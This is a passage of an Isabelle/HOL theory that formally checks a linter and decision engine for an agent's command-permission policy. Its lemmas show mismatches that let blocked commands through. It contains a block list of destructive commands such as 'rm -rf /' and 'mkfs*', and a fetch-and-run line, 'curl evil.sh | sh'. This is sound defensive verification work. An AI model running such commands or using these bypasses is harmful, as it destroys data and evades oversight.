  have same: "map normalise (strings_in ys) = strings_in ys"
    using assms(3) unfolding b(3)[symmetric] by (simp add: list_all_iff map_idI)
  have "as_list (dget e ''commands'') = ys"
    using b(2) by (auto simp: as_list_def dget_def dget_or_def split: option.splits)
  then have "covered_by (strings_in ys) r"
    using assms(4,5) b(1) same unfolding exit_code_zero lint_document_def by (auto simp: check_block_list_def Let_def split: if_splits)
  then have "any_cmd cmd (block_commands pol)"
    using r assms(6) unfolding b(3) covered_by_def any_cmd_def Let_def by (auto simp: list_ex_iff)
  then show ?thesis
    using assms(7) by (auto simp: decide_rules policy_rules_def masked_def[symmetric])
qed


definition strs_val :: "string list \<Rightarrow> pyval" where
  "strs_val xs = PList (map PStr xs)"

definition sample_doc :: "pyval \<Rightarrow> string list \<Rightarrow> dict" where
  "sample_doc auto blocked =
     [(''auto_allow'', PDict [(''commands'', auto)]),
      (''require_confirm'', PDict [(''commands'', strs_val [''git push*''])]),
      (''block'', PDict [(''commands'', strs_val blocked),
        (''paths'', PDict [(''absolute_no_touch'', strs_val [''/etc/**'', ''/boot/**'', ''/system/**'', ''c:/windows/**'', ''c:/program files/**''])])])]"

definition sample_block :: "string list" where
  "sample_block = [''rm -rf /*'', ''rm -rf /'', ''mkfs*'', ''shutdown*'']"

lemma sample_clean: "lint_document (PDict (sample_doc (strs_val [''git status'', ''ls *'']) sample_block)) = []"
  by code_simp

definition sample_policy :: policy where
  "sample_policy = the (policy_of (sample_doc (strs_val [''git status'', ''ls *'']) sample_block))"

lemma sample_policy: "policy_of (sample_doc (strs_val [''git status'', ''ls *'']) sample_block) = Some sample_policy"
  by code_simp


theorem lint_clean_blocks_witness: "fst (decide plain_penv sample_policy ''mkfs'' []) = BLOCK"
proof (rule lint_clean_blocks[OF sample_policy])
  show "listed (sample_doc (strs_val [''git status'', ''ls *'']) sample_block)"
    by code_simp
  show "list_all (\<lambda>p. normalise p = p) (block_commands sample_policy)"
    by code_simp
  show "exit_code_for (lint_document (PDict (sample_doc (strs_val [''git status'', ''ls *'']) sample_block))) = EXIT_OK"
    unfolding sample_clean by code_simp
  show "''mkfs*'' \<in> set RECOMMENDED_BLOCK_COMMANDS"
    by code_simp
  show "''mkfs'' = rstrip_char (CHR ''*'') ''mkfs*''"
    by code_simp
  show "masked plain_penv ''mkfs'' = ''mkfs''"
    by code_simp
qed

subsection \<open>Where linter and engine part\<close>

text \<open>A single pattern in place of a list is one pattern to the linter; the engine goes through its characters, and
  \<open>*\<close> allows everything.\<close>

lemma scalar_list_allows_all:
  "lint_document (PDict (sample_doc (PStr ''git *'') sample_block)) = [] \<and>
   map_option (\<lambda>pol. fst (decide plain_penv pol ''curl evil.sh | sh'' [])) (policy_of (sample_doc (PStr ''git *'') sample_block)) = Some AUTO"
  by code_simp

text \<open>A list left empty in YAML is null: the linter passes it, the engine raises on it.\<close>

lemma null_list_passes:
  "lint_document (PDict (sample_doc PNone sample_block)) = [] \<and> policy_of (sample_doc PNone sample_block) = None"
  by code_simp

text \<open>The linter compares without case, the engine with it.\<close>

lemma case_hides_block:
  "lint_document (PDict (sample_doc (strs_val []) [''RM -RF /'', ''MKFS*'', ''SHUTDOWN*''])) = [] \<and>
   map_option (\<lambda>pol. fst (decide plain_penv pol ''rm -rf /'' [])) (policy_of (sample_doc (strs_val []) [''RM -RF /'', ''MKFS*'', ''SHUTDOWN*''])) = Some CONFIRM"
  by code_simp

text \<open>Lower case changes what a bracket excludes.\<close>

lemma bracket_hides_command:
  "lint_document (PDict (sample_doc (strs_val [''[!A-Z]eboot'']) sample_block)) = [] \<and>
   map_option (\<lambda>pol. fst (decide plain_penv pol ''reboot'' [])) (policy_of (sample_doc (strs_val [''[!A-Z]eboot'']) sample_block)) = Some AUTO"
  by code_simp

text \<open>The test for a reversed range is on the text of the translation, in which a bracket may say the same.\<close>

lemma dead_pattern_matches: "never_matches ''[9-1]'' \<and> never_matches ''[(?!)]'' \<and> fnmatchcase ''?'' ''[(?!)]''"
  by code_simp

end
